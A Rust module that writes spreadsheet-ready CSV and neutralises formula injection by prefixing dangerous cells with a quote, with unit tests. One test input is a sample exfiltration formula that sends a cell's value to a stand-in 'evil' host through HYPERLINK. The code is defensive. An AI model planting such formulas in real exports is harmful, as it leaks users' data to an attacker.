//! CSV as spreadsheets read it: UTF-8 with a byte order mark, lines ending in CR LF.

use std::{
    io::{BufWriter, Write},
    path::Path,
    sync::LazyLock,
};

use csv::{Terminator, Writer, WriterBuilder};
use regex::Regex;
use store::files::NewFile;

use super::writer::{Cell, Sheet, unwritten};
use crate::error::{from_lower, problem::Problem};

pub(super) struct Csv(Writer<BufWriter<NewFile>>);

impl Csv {
    pub(super) fn new(file: NewFile) -> Result<Self, Problem> {
        let mut file = BufWriter::new(file);
        file.write_all("\u{feff}".as_bytes()).map_err(|error| unwritten(&error))?;
        Ok(Self(WriterBuilder::new().flexible(true).terminator(Terminator::CRLF).from_writer(file)))
    }
}

/// Writes a whole file from rows in memory.
pub(crate) fn write(path: &Path, rows: impl IntoIterator<Item = Vec<Cell>>) -> Result<(), Problem> {
    let file = NewFile::create(path).map_err(|error| from_lower::not_written(&error))?;
    let mut sheet = Box::new(Csv::new(file)?);
    rows.into_iter().try_for_each(|row| sheet.row(row))?;
    sheet.finish()
}

impl Sheet for Csv {
    fn row(&mut self, cells: Vec<Cell>) -> Result<(), Problem> {
        let fields = cells.into_iter().map(|cell| match cell {
            Cell::Empty => String::new(),
            Cell::Text(text) => harmless(&text),
            Cell::Instant(wall) => wall.format("%Y-%m-%d %H:%M:%S").to_string(),
        });
        self.0.write_record(fields).map_err(|error| unwritten(&error))
    }

    fn finish(self: Box<Self>) -> Result<(), Problem> {
        let file = self.0.into_inner().map_err(|error| unwritten(error.error()))?;
        let file = file.into_inner().map_err(|error| unwritten(error.error()))?;
        file.finish().map_err(|error| from_lower::not_written(&error))
    }
}

/// Start of a line or a separator of any spreadsheet, characters that spreadsheets skip, and a character that begins a
/// formula.
static FORMULA_START: LazyLock<Regex> =
    // The pattern is fixed, and a test compiles it.
    LazyLock::new(|| Regex::new(r#"(^|[;,|\t\r\n][ "\u{a0}]*)([=+\-@＝＋－＠])"#).expect("a valid pattern"));

/// Disarms formulas in a text, whichever separator a spreadsheet splits it at: its author may be any user of the
/// server.
fn harmless(text: &str) -> String {
    let safe = FORMULA_START.replace_all(text, "${1}'${2}");
    if safe.starts_with(['\t', '\r', '\n']) { format!("'{safe}") } else { safe.into_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FORMULA_CHARS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    const SEPARATORS: [char; 6] = [';', ',', '|', '\t', '\r', '\n'];

    #[test]
    fn formulas_are_exported_as_text() {
        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"] {
            assert!(harmless(formula).starts_with('\''), "{formula}");
        }
        for text in ["01900000001", "stb-1", "a=b", "", "a - b", "e-mail a@b", "1;2,3|4"] {
            assert_eq!(harmless(text), text);
        }
    }

    #[test]
    fn no_separator_turns_a_part_of_a_cell_into_a_formula() {
        for text in
            ["x;=1+1;y", "txt;=HYPERLINK(\"http://evil/?\"&A1)", "a\t+1", "a|@b", "a\n=1", "a, -1", "a;\"=1\"", "a; =1"]
        {
            let safe = harmless(text);
            for separator in SEPARATORS {
                for part in safe.split(separator) {
                    let part = part.trim_start_matches([' ', '"']);
                    assert!(!part.starts_with(FORMULA_CHARS), "{text:?} at {separator:?}: {safe:?}");
                }
            }
        }
    }
}
